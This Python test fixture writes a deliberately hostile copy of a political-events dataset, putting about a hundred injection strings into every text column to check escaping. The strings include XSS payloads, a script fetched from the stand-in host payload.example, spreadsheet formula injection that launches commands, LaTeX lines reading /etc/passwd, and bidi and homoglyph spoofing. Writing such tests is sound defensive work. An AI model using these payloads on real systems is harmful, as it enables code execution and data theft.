"""A hundred texts that must stay texts, and a record that holds them wherever a text may stand.

Whatever can run calls `ran(7)`, so that a page which defines `ran` learns of it; whatever is
fetched or sent lies at `payload.example`. All fit a title (80 characters), and none has blanks at
its ends, which a reader takes off.
"""

from __future__ import annotations

import csv
import re
import shutil
from itertools import count
from pathlib import Path

from loaders.record import DATA

HOST = "payload.example"

BY_KIND: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>ran(7)</script>",
        '"><script>ran(7)</script>',
        "</script><script>ran(7)</script>",
        "<ScRiPt >ran(7)</ScRiPt >",
        "<script src=//payload.example/a.js></script>",
        "<script/src=data:,ran(7)></script>",
        "<scr<script>ipt>ran(7)</scr</script>ipt>",
        "<!--<script>ran(7)</script>-->",
        "]]><script>ran(7)</script>",
        "<script type=module>ran(7)</script>",
        "&lt;script&gt;ran(7)&lt;/script&gt;",
        "\uff1cscript\uff1eran(7)\uff1c/script\uff1e",
        "</title><script>ran(7)</script>",
        "</textarea></style><script>ran(7)</script>",
        "\\u003cscript\\u003eran(7)\\u003c/script\\u003e",
        "';ran(7);//",
        "\";ran(7);//",
        "`;ran(7);`${ran(7)}",
    ),
    "event handlers": (
        "<img src=x onerror=ran(7)>",
        "\"><img src=x onerror=ran(7)>",
        "'><img src=x onerror='ran(7)'>",
        '" onmouseover="ran(7)" x="',
        "' onfocus='ran(7)' autofocus='",
        "<svg onload=ran(7)>",
        "<svg/onload=ran(7)//",
        "<body onload=ran(7)>",
        "<details open ontoggle=ran(7)>x</details>",
        "<input autofocus onfocus=ran(7)>",
        "<video><source onerror=ran(7)></video>",
        "<marquee onstart=ran(7)>x</marquee>",
        "<svg><animate onbegin=ran(7) attributeName=x dur=1s>",
        "<a href=x onclick=ran(7) style=position:fixed;inset:0>x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=ran(7)>",
        "<noscript><p title='</noscript><img src=x onerror=ran(7)>'>",
    ),
    "HTML": (
        "<iframe srcdoc='<script>parent.ran(7)</script>'></iframe>",
        "<iframe src=javascript:parent.ran(7)></iframe>",
        "<object data=//payload.example/x></object>",
        "<embed src=//payload.example/x>",
        "<base href=//payload.example/>",
        "<meta http-equiv=refresh content='0;url=//payload.example'>",
        "<form action=//payload.example><input type=submit></form>",
        "<link rel=stylesheet href=//payload.example/a.css>",
        "<h1>Not a heading</h1>",
        "<b>bold</b><br>next",
        "<plaintext>",
        "&#60;b&#62;b&#60;/b&#62;",
        "<extra></extra>%{x}",
        "<a href='https://payload.example'>Sign in again</a>",
        "</p></div></section></main>",
        "AT&T &copy; & < > \" '",
    ),
    "Markdown": (
        "[click](javascript:ran(7))",
        "![x](https://payload.example/a.png)",
        "[x](https://payload.example \"ran\")",
        "**bold** _it_ ~~gone~~ `code`",
        "# Heading",
        "> quoted",
        "| a | b |",
        "<https://payload.example>",
        "https://payload.example/seen",
        ":red[colour] :material/warning: :smile:",
        ":material/delete:",
        "[^1]: a note",
        "- a\n- b",
        "```js",
    ),
    "LaTeX": (
        "$\\href{javascript:ran(7)}{x}$",
        "$$\\int_0^1 x\\,dx$$",
        "$5 and $6",
        "\\url{https://payload.example}",
        "}\\input{/etc/passwd}{",
        "\\write18{ran}",
        "\\begin{x}%",
    ),
    "bidirectional": (
        "admin\u202egnp.exe",
        "\u2067Kremlin\u2069 \u2066x",
        "a\u200fb\u200ec\u061cd",
        "\u202d\u202d\u202d\u202dnever closed",
    ),
    "homoglyphs": (
        "\u0440utin",
        "tr\u0443mp",
        "\uff54\uff52\uff55\uff4d\uff50",
        "kreml\u0456n\u200b\ufeff",
    ),
    "formulas": (
        "=1+1",
        '=HYPERLINK("https://payload.example","x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|'!A0",
        "-2+3",
        "@SUM(1+1)",
        "%0A=1+1",
        "'=1+1",
        "\uff1d1+1",
    ),
    "links": (
        "javascript:ran(7)",
        "JaVaScRiPt://%0aran(7)",
        "data:text/html,<script>parent.ran(7)</script>",
        "vbscript:ran(7)",
        "//payload.example",
    ),
    "templates": (
        "{{7*7}}",
        "${7*7}#{7*7}",
        "{% for x in (1).__class__ %}",
        "%{customdata[0]}%{y}",
    ),
    "style": (
        "</style><style>*{background:url(//payload.example)}",
        "x;background:url(https://payload.example/a.png)",
        "expression(ran(7))",
    ),
}  # fmt: skip
PAYLOADS = tuple(text for texts in BY_KIND.values() for text in texts)

# What a role and a list cannot hold, because they are written with it; it stands in other columns.
SEPARATORS = str.maketrans({";": ",", "@": "\uff20"})
# Columns of text, by table. All others are ids, dates, numbers or one of a few words.
TEXTS = {
    "events": ("date_text", "title", "summary", "demand", "note"),
    "articles": ("title", "note"),
    "publishers": ("name", "note"),
    "actors": ("name", "roles", "aliases", "ambiguous_aliases", "note"),
    "event_types": ("label", "verb", "definition", "example"),
    "places": ("name",),
}
# Columns that the record does not know are kept and exported under their own names.
BESIDES = ('=HYPERLINK("https://payload.example")', "<img src=x onerror=ran(7)>")
# Addresses that the record takes: http or https, without what would end them.
ADDRESSES = (
    "https://payload.example/'onmouseover='ran(7)/{n}",
    "https://payload.example/{{{{7*7}}}}/{n}",
    "http://payload.example/javascript:ran(7)//{n}",
    "https://payload.example/)](javascript:ran(7))/{n}",
    "https://payload.example/&quot;&lt;script&gt;/{n}",
    "https://user:word@payload.example:8080/?a=1&b=`ran(7)`#{n}",
)


def hostile_record(folder: Path) -> Path:
    """
    Write a record into `folder`, which may be there already, and give its path back.

    It is the curated one with its ids, dates and links as they are and every text a payload, so
    that each payload comes up in each column (in the small tables as far as they go), and a hundred
    acts more, one a payload, from 10 July to 18 August 2025: half of
    them with a deadline, each but the first in answer to the one before.
    """
    folder.mkdir(parents=True, exist_ok=True)
    for name, columns in TEXTS.items():
        with (DATA / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for position, row in enumerate(rows):
            for shift, column in enumerate(columns):
                row[column] = _text(column, row[column], position + 13 * shift)
            if name == "articles":
                row["url"] = ADDRESSES[position % len(ADDRESSES)].format(n=position)
        if name == "events":
            rows += _acts(rows)
            for position, row in enumerate(rows):
                row.update({each: PAYLOADS[(position + 7) % len(PAYLOADS)] for each in BESIDES})
            rows.sort(key=lambda row: row["event_id"])
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    if (DATA / "stories").is_dir():
        shutil.copytree(DATA / "stories", folder / "stories", dirs_exist_ok=True)
    return folder


def _text(column: str, before: str, number: int) -> str:
    text = PAYLOADS[number % len(PAYLOADS)]
    if column == "roles":
        held = re.findall(r"@([^;]+)", before)
        title = text.translate(SEPARATORS)
        return ";".join(f"{title} {n}@{dates}" for n, dates in zip(count(1), held, strict=False))
    if column in ("aliases", "ambiguous_aliases"):
        return text.replace(";", ",") if before else ""
    return text


def _acts(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    """One act a payload, each with all of its texts that payload."""
    acts: list[dict[str, str]] = []
    model = next(row for row in rows if row["event_id"] == "2025-07-28-trump-cuts-deadline")
    for number, text in enumerate(PAYLOADS):
        day = 10 + number * 40 // len(PAYLOADS)
        date = f"2025-07-{day:02}" if day <= 31 else f"2025-08-{day - 31:02}"
        due = {"deadline": "2025-08-30", "deadline_status": "open"} if number % 2 else {"deadline": "", "deadline_status": ""}  # fmt: skip
        acts.append(
            model
            | dict.fromkeys(TEXTS["events"], text)
            | due
            | {
                "event_id": f"{date}-payload-{number:02}",
                "date": date,
                "responds_to": acts[-1]["event_id"] if acts else "",
                "deadline_outcome": "",
                "importance": "1",
                "actors": "trump" if number % 2 else "putin",
                "recipients": "putin" if number % 2 else "trump",
            }
        )
    return acts
